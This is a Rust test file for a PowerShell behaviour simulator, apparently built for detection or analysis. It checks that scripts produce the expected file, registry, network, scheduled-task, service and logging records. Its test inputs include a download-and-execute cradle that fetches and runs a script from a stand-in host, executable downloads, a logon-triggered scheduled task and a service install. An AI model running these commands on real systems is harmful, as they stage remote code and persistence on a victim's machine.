//! Files, registry, downloads, tasks, services, and logs.

use misfire::activity::{ActivityKind, FileChangeKind, RegistryChange, RegistryData};
use misfire::stage::simulate::shell::powershell::decode_encoded_command;
use rstest::rstest;

use crate::powershell_simulation::run;

fn files(script: &str) -> Vec<(String, FileChangeKind)> {
    let kinds = run(script).kinds().into_iter();
    kinds
        .filter_map(|kind| match kind {
            ActivityKind::File(file) => Some((file.path, file.kind)),
            _ => None,
        })
        .collect()
}

#[test]
fn files_are_written_and_removed() {
    let path = |name: &str| format!(r"C:\Users\avery\AppData\Local\Temp\{name}");
    let script = "'hi' > $env:TEMP\\a.txt\nAdd-Content $env:TEMP\\a.txt more\nCopy-Item $env:TEMP\\a.txt $env:TEMP\\b.txt\nRemove-Item $env:TEMP\\a.txt -Force";
    assert_eq!(
        files(script),
        [
            (path("a.txt"), FileChangeKind::Created),
            (path("a.txt"), FileChangeKind::Written),
            (path("b.txt"), FileChangeKind::Created),
            (path("a.txt"), FileChangeKind::Deleted),
        ]
    );
}

#[test]
fn what_was_written_is_read_again() {
    let left = run(
        "Set-Content -Path C:\\x.ps1 -Value 'whoami /user'\n. C:\\x.ps1\nGet-Content C:\\x.ps1",
    );
    assert_eq!(
        left.started(),
        [r#""C:\Windows\system32\whoami.exe" /user"#]
    );
}

#[test]
fn values_of_the_registry_are_set() {
    let left = run(
        "New-Item -Path HKCU:\\Software\\Classes\\x -Force | Out-Null\nSet-ItemProperty -Path 'HKLM:\\SOFTWARE\\Acme' -Name Port -Value 5900 -Type DWord",
    );
    let changes: Vec<_> = left
        .kinds()
        .into_iter()
        .filter_map(|kind| match kind {
            ActivityKind::Registry(change) => Some(change),
            _ => None,
        })
        .collect();
    let sid = "S-1-5-21-1004336348-1177238915-682003330-1128";
    assert!(
        changes.contains(&RegistryChange::KeyCreated {
            key: format!(r"HKU\{sid}\Software\Classes\x")
        }),
        "{changes:?}"
    );
    assert!(
        changes.contains(&RegistryChange::ValueSet {
            key: r"HKLM\SOFTWARE\Acme".to_owned(),
            name: "Port".to_owned(),
            data: RegistryData::Dword(5900),
        }),
        "{changes:?}"
    );
}

#[rstest]
#[case("iwr https://tools.example/a.exe -OutFile C:\\a.exe")]
#[case("(New-Object Net.WebClient).DownloadFile('https://tools.example/a.exe', 'C:\\a.exe')")]
#[case(
    "Invoke-WebRequest -Uri \"https://tools.example/a.exe\" -UseBasicParsing -OutFile \"C:\\a.exe\""
)]
#[case("Start-BitsTransfer -Source https://tools.example/a.exe -Destination C:\\a.exe")]
fn downloads_ask_connect_and_write(#[case] script: &str) {
    let kinds = run(script).kinds();
    let asked = kinds.iter().any(|kind| matches!(kind, ActivityKind::DnsQuestion(question) if question.name == "tools.example"));
    let connected = kinds.iter().any(|kind| matches!(kind, ActivityKind::Connection(connection) if connection.destination_port == 443));
    let written = kinds
        .iter()
        .any(|kind| matches!(kind, ActivityKind::File(file) if file.path == r"C:\a.exe"));
    assert!(asked && connected && written, "{kinds:?}");
}

#[test]
fn an_unknown_download_that_is_run_is_said_to_be_unknown() {
    let left = run(
        "IEX(New-Object Net.WebClient).DownloadString('https://tools.example/x.ps1'); Invoke-Thing -Now",
    );
    let reasons: Vec<_> = left
        .not_interpreted()
        .into_iter()
        .map(|(_, because)| because)
        .collect();
    assert_eq!(
        reasons,
        [
            "the text that it runs is not known",
            "what Invoke-Thing does is not known"
        ]
    );
}

#[test]
fn tasks_are_registered() {
    let script = "$a = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c calc'\n$t = New-ScheduledTaskTrigger -AtLogOn\nRegister-ScheduledTask -TaskName Updater -Action $a -Trigger $t";
    let kinds = run(script).kinds();
    let task = kinds.iter().find_map(|kind| match kind {
        ActivityKind::TaskRegistered(task) => Some(task),
        _ => None,
    });
    let task = task.expect("a task");
    assert_eq!(
        (
            task.path.as_str(),
            task.command.as_str(),
            task.arguments.as_deref()
        ),
        (r"\Updater", "cmd.exe", Some("/c calc"))
    );
    assert!(task.xml.contains("<Command>cmd.exe</Command>\r\n"));
    assert!(task.xml.contains("<LogonTrigger>"));
}

#[test]
fn services_are_installed() {
    let kinds =
        run("New-Service -Name Relay -BinaryPathName 'C:\\r.exe -s' -StartupType Manual").kinds();
    let installed = kinds.iter().any(|kind| {
        matches!(kind, ActivityKind::ServiceInstalled(service)
            if service.name == "Relay" && service.image_path == r"C:\r.exe -s" && service.start == "demand start")
    });
    assert!(installed, "{kinds:?}");
}

#[test]
fn script_blocks_and_pipelines_are_logged() {
    let kinds = run("iex 'Get-Date'; & { Write-Host hello }").kinds();
    let blocks: Vec<_> = kinds
        .iter()
        .filter_map(|kind| match kind {
            ActivityKind::ScriptBlock(block) => Some(block.text.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        blocks,
        [
            "iex 'Get-Date'; & { Write-Host hello }",
            "Get-Date",
            "{ Write-Host hello }"
        ]
    );
    let commands: Vec<_> = kinds
        .iter()
        .filter_map(|kind| match kind {
            ActivityKind::PipelineCommand {
                command,
                parameters,
                ..
            } => Some((command.as_str(), parameters.clone())),
            _ => None,
        })
        .collect();
    let pair = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
    assert_eq!(
        commands,
        [
            ("Invoke-Expression", pair("Command", "Get-Date")),
            ("Get-Date", Vec::new()),
            ("Write-Host", pair("Object", "hello")),
        ]
    );
}

#[test]
fn the_policy_test_file_comes_and_goes() {
    let left = run("1");
    let tests: Vec<_> = left
        .world
        .activities()
        .iter()
        .filter(|traced| matches!(&traced.activity.kind, ActivityKind::File(file) if file.path.contains(r"\__PSScriptPolicyTest_")))
        .collect();
    assert_eq!(tests.len(), 2);
}

#[rstest]
#[case("dwBoAG8AYQBtAGkA", Some("whoami"))]
#[case("dwBoAG8AYQBtAGk", None)]
#[case("???", None)]
fn encoded_commands_are_decoded(#[case] encoded: &str, #[case] text: Option<&str>) {
    assert_eq!(decode_encoded_command(encoded).as_deref(), text);
}
